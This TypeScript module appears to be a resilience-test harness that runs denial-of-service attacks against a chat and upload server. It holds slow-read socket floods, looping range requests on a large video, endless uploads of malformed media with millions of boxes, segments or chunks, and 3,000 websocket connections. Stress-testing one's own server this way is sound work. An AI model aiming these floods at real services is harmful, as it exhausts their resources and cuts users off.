import { randomUUID } from 'node:crypto'
import { Agent, request } from 'node:http'
import { connect } from 'node:net'
import { buffer } from 'node:stream/consumers'
import { io } from 'socket.io-client'
import {
  jpegOfSegments,
  pngOfChunks,
  videoBox,
  videoOfBoxes,
} from '../../../tests/server/platform/files/hostile-files.ts'
import { plainJpeg } from '../../../tests/server/platform/files/pictures.ts'

/** An attack on a server; it runs until its process is killed. `from` is the source address. */
export type Attack = (origin: URL, from: string) => Promise<void>

const MEGABYTE = 1024 * 1024
const LOOPS = 40
const SOCKETS_THAT_NEVER_READ = 60
const CHAT_SOCKETS = 3000

export const ATTACKS = {
  'reading parts of a video of 20 MB in 40 loops, and all of it over 60 sockets that take nothing': readVideo,
  'handing in a video of 2.6 million boxes, without end': sendFiles('video', videoOfBoxes),
  'handing in a JPEG of 2.3 million segments, without end': sendFiles('image', () =>
    jpegOfSegments(plainJpeg()),
  ),
  'handing in a PNG of 800,000 chunks, without end': sendFiles('image', pngOfChunks),
  '3,000 sockets of the chat, and 40 loops of a call that looks games up': openSockets,
} as const satisfies Readonly<Record<string, Attack>>

interface Call {
  readonly method?: string
  readonly headers?: Readonly<Record<string, string>>
  readonly body?: Buffer
}

/** Makes calls from the attacker's address. @returns the answer, or undefined when the connection broke */
function caller(origin: URL, from: string) {
  const agent = new Agent({ keepAlive: true, localAddress: from })
  return (path: string, { body, ...options }: Call = {}): Promise<Buffer | undefined> =>
    new Promise((resolve) => {
      request(new URL(path, origin), { agent, ...options })
        .on('response', (answer) => void buffer(answer).then(resolve, () => resolve(undefined)))
        .on('error', () => resolve(undefined))
        .end(body)
    })
}

async function forever(loops: number, call: () => Promise<unknown>): Promise<void> {
  await Promise.all(
    Array.from({ length: loops }, async () => {
      for (;;) await call()
    }),
  )
}

function form(content: Buffer): Call {
  const boundary = randomUUID()
  const part = (head: string) => `--${boundary}\r\nContent-Disposition: form-data; ${head}\r\n\r\n`
  return {
    method: 'POST',
    headers: {
      'content-type': `multipart/form-data; boundary=${boundary}`,
      'x-requested-with': 'XMLHttpRequest',
    },
    body: Buffer.concat([
      Buffer.from(`${part('name="guestId"')}${randomUUID()}\r\n`),
      Buffer.from(part('name="file"; filename="a"\r\nContent-Type: application/octet-stream')),
      content,
      Buffer.from(`\r\n--${boundary}--\r\n`),
    ]),
  }
}

async function readVideo(origin: URL, from: string): Promise<void> {
  const call = caller(origin, from)
  const sound = ['ftyp', 'moov', 'mdat'].map((name) =>
    videoBox(name, name === 'mdat' ? Buffer.alloc(19 * MEGABYTE) : Buffer.from('isom\0\0\0\0')),
  )
  const answer = String(await call('/api/chat/upload-video', form(Buffer.concat(sound))))
  const path = /"?(\/[^"\s]+)"?/.exec(answer)?.[1]
  if (path === undefined) throw new Error(`The video was not taken: ${answer}`)
  for (let socket = 0; socket < SOCKETS_THAT_NEVER_READ; socket++) {
    connect({ host: origin.hostname, port: Number(origin.port), localAddress: from })
      .on('error', () => undefined)
      .pause()
      .write(`GET ${path} HTTP/1.1\r\nHost: ${origin.host}\r\n\r\n`)
  }
  await forever(LOOPS, () => call(path, { headers: { range: 'bytes=0-0' } }))
}

function sendFiles(kind: 'image' | 'video', make: () => Buffer): Attack {
  return async (origin, from) => {
    const call = caller(origin, from)
    const file = make()
    await forever(1, () => call(`/api/chat/upload-${kind}`, form(file)))
  }
}

async function openSockets(origin: URL, from: string): Promise<void> {
  const call = caller(origin, from)
  for (let socket = 0; socket < CHAT_SOCKETS; socket++) {
    const options = { transports: ['websocket'], forceNew: true, localAddress: from }
    const widget = io(origin.href, options)
    widget.on('connect', () => void widget.emit('join', `krapao-${randomUUID()}`))
  }
  await forever(LOOPS, () => call('/api/refund/check', { headers: { 'x-requested-with': 'XMLHttpRequest' } }))
}
